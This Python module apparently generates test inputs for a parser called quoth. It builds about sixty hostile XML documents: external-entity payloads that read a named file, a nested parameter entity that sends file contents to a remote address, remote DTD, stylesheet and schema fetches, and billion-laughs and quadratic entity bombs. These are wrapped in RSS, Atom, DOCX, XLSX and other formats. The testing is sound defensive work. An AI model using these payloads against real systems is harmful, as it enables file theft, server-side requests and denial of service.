"""Sixty XML documents that ask for a file or an address, or multiply, at every door of quoth that reads XML."""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.inputs.whole import TEXT, docx, sheet, workbook

DOORS = ("rss", "atom", "xml", "docx", "xhtml", "xlsx", "nitf")


def attacks(secret: str, address: str) -> Iterator[tuple[str, str, bytes]]:
    """(what it is, file name, bytes) of each; they want the file `secret` and the server at `address`."""
    heads = {
        "an external entity": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]>', "&x;"),
        "an entity at an address": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "http://{address}/x">]>', "&x;"),
        "a public entity": (f'<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "file://{secret}">]>', "&x;"),
        "a parameter entity": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://{address}/p.dtd"> %p;]>', "&x;"),
        "an external DTD": (f'<!DOCTYPE r SYSTEM "http://{address}/r.dtd">', "&x;"),
        "a DTD that is a file": (f'<!DOCTYPE r SYSTEM "file://{secret}">', "&x;"),
        "a nested parameter entity": (
            f'<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e "<!ENTITY x SYSTEM \'http://{address}/%f;\'>"> %e;]>',
            "&x;",
        ),
        "XInclude": ("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'),
        "a stylesheet": (f'<?xml-stylesheet type="text/xsl" href="http://{address}/x.xsl"?>', ""),
        "a schema's place": ("", f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u http://{address}/s"/>'),
        "laughs": (_laughs(9), "&a9;"),
        "quadratic growth": (f'<!DOCTYPE r [<!ENTITY x "{"x" * 50_000}">]>', "&x;" * 2000),
    }  # fmt: skip
    for what, (head, inside) in heads.items():
        for door in DOORS[:4] if "place" in what or "stylesheet" in what else DOORS[:3]:
            name, data = _at(door, head, inside)
            yield f"{what} in {door}", name, data
    for codec in ("utf-16", "utf-7", "utf-16-be", "utf-32"):
        name, data = _at("rss", heads["an external entity"][0], "&x;")
        yield f"an external entity in {codec}", name, data.decode().encode(codec)
    for what in ("an external entity", "an entity at an address", "laughs", "quadratic growth", "an external DTD"):
        yield f"{what} in docx", *_at("docx", *heads[what])
        yield f"{what} in xhtml", *_at("xhtml", *heads[what])
        yield f"{what} in xlsx", *_at("xlsx", *heads[what])
        yield f"{what} in nitf", *_at("nitf", *heads[what])


def _at(door: str, head: str, inside: str) -> tuple[str, bytes]:
    if door == "rss":
        body = f"<rss><channel><title>T{inside}</title><item><title>{inside}</title><description>{inside} {TEXT} {TEXT}</description></item></channel></rss>"
    elif door == "atom":
        body = f"<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>1</id><content type='html'>{inside} {TEXT}</content></entry></feed>"
    elif door == "xml":
        body = f"<r>{inside}{TEXT}</r>"
    elif door == "xhtml":
        body = f"<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{inside} {TEXT}</p></body></html>"
    elif door == "xlsx":
        return "a.xlsx", workbook(head.encode() + sheet().replace(b">Report<", f">{inside}<".encode()))
    elif door == "nitf":
        body = f"<nitf><body><body.content><p>{inside} {TEXT}</p></body.content></body></nitf>"
    else:
        text = f'<w:p><w:r><w:t xml:space="preserve">{inside} {TEXT}</w:t></w:r></w:p>'
        return "a.docx", docx(text, head.replace("<!DOCTYPE r", "<!DOCTYPE w:document"))
    return f"a.{door}", f'<?xml version="1.0"?>{head}{body}'.encode()


def _laughs(levels: int) -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(levels + 1))
    return f"<!DOCTYPE r [{entities}]>"
